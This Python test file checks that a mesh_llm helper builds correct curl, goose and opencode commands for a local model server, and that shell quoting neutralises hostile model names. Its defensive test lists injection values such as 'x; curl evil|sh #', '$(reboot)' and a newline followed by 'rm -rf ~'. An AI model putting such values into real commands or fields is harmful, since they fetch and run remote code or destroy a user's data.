import json
import shlex

from mesh_llm.api.agents import agent_commands


def test_commands_carry_model_and_port() -> None:
    cmds = agent_commands("Qwen3-8B-Q4_K_M", 9444, 8192)
    assert "http://localhost:9444/v1/chat/completions" in cmds["curl"]
    assert "GOOSE_MODEL=Qwen3-8B-Q4_K_M" in cmds["goose"] and "OPENAI_HOST=http://localhost:9444" in cmds["goose"]
    assert "opencode -m openai/Qwen3-8B-Q4_K_M" in cmds["opencode"]
    body = cmds["curl"].split("-d '", 1)[1].rstrip("'")
    assert json.loads(body)["model"] == "Qwen3-8B-Q4_K_M"
    provider = json.loads(cmds["pi models.json"])["providers"]["mesh"]
    assert provider["baseUrl"] == "http://localhost:9444/v1"
    assert provider["models"][0]["id"] == "Qwen3-8B-Q4_K_M" and provider["models"][0]["contextWindow"] == 8192


def test_hostile_model_names_stay_one_shell_word() -> None:
    """A peer names its model; whatever the name, pasting a command runs nothing else."""
    for name in ["x; curl evil|sh #", "it's", "$(reboot)", "a`b`", "m\nrm -rf ~"]:
        cmds = agent_commands(name, 9337, 4096)
        goose = shlex.split(cmds["goose"])
        assert f"GOOSE_MODEL={name}" in goose and goose[-2:] == ["goose", "session"]
        assert shlex.split(cmds["opencode"])[-1] == f"openai/{name}"
        curl = shlex.split(cmds["curl"])
        assert json.loads(curl[-1])["model"] == name and curl[-2] == "-d"
